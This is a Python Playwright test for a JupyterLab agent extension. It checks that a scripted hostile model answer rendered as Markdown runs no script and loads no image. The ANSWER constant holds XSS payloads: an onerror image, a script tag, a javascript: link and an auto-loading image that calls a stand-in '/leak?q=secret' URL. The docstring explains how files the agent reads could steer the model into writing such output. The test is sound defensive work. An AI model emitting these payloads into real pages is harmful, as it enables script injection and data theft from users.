"""A hostile answer in a real browser: JupyterLab on 127.0.0.1 and Debian's chromium.

JupyterLab renders the Markdown output of a cell the person ran without its sanitizer, and
the answer's text is not the person's (a workspace's ``.env`` can pick the host that writes
it; any file the agent reads can ask the model to repeat a string). A scripted answer holds
an ``<img onerror>``, an auto-loading image, a ``javascript:`` link and a ``<script>``; the
test runs it from the page and reads the DOM: no script ran, no image was made, no link has
an unsafe scheme, and the text is still shown (the tags as text, fenced code as written).
Uses ``tests/test_browser.py``'s server, browser and helpers.
"""

from __future__ import annotations

import json

import nbformat

from tests.test_browser import (
    CHROMIUM_FLAGS,
    KERNEL_IDLE,
    _browser_or_skip,
    lab,  # noqa: F401 (the fixture)
)

HERE = ".jp-NotebookPanel:not(.lm-mod-hidden)"
ANSWER = (
    "Done. <img src=x onerror=\"window.__pc_pwned='img'\"> and "
    "<script>window.__pc_pwned='script'</script>\n\n"
    "![chart](http://127.0.0.1:9/leak?q=secret) and [details](javascript:window.__pc_pwned='link')\n\n"
    "```html\n<b>kept as code</b>\n```\n\nThe END-MARK line."
)


def _script() -> str:
    script = {"model": "scripted-test", "turns": [{"text": ANSWER, "tool_calls": []}]}
    return f"from pathlib import Path\n_ = Path('hostile.json').write_text({json.dumps(json.dumps(script))})"


def test_a_hostile_answer_runs_no_script_and_loads_no_image(lab) -> None:
    chromium = _browser_or_skip()
    from playwright.sync_api import sync_playwright

    url, root = lab
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.cells = [
        nbformat.v4.new_code_cell("%load_ext pseudoclaude_nb"),
        nbformat.v4.new_code_cell(_script()),
        nbformat.v4.new_code_cell('%agent --new --provider scripted --script hostile.json "summarise"'),
    ]
    nbformat.write(nb, root / "hostile.ipynb")
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=CHROMIUM_FLAGS)
        page = browser.new_page(viewport={"width": 1280, "height": 1000})
        page.goto(url.replace("01_quickstart.ipynb", "hostile.ipynb"))
        page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=60_000)
        page.wait_for_function(KERNEL_IDLE, timeout=90_000)
        page.evaluate("() => { window.jupyterapp.commands.execute('notebook:run-all-cells'); }")
        page.wait_for_selector(
            f"{HERE} .jp-RenderedMarkdown >> text=END-MARK", state="attached", timeout=120_000
        )
        page.wait_for_function(KERNEL_IDLE, timeout=30_000)
        page.wait_for_timeout(500)  # an onerror fires once the broken image has failed to load
        answer = page.query_selector(f"{HERE} .jp-RenderedMarkdown:has-text('END-MARK')")
        assert answer is not None
        found = answer.evaluate(
            """(el) => ({
              pwned: window.__pc_pwned || null,
              images: el.querySelectorAll('img').length,
              scripts: el.querySelectorAll('script').length,
              unsafe: [...el.querySelectorAll('a')].map(a => a.getAttribute('href') || '')
                .filter(h => !/^(https?:|mailto:|#|$)/i.test(h.trim())),
              text: el.innerText,
              code: [...el.querySelectorAll('pre code, pre')].map(c => c.innerText).join('\\n'),
            })"""
        )
        browser.close()
    assert found["pwned"] is None, found
    assert found["images"] == 0 and found["scripts"] == 0 and found["unsafe"] == [], found
    # What the model wrote is still there to read: the tags as text, the code as written.
    assert "<img src=x" in found["text"] and "chart" in found["text"], found["text"]
    assert "<b>kept as code</b>" in found["code"], found
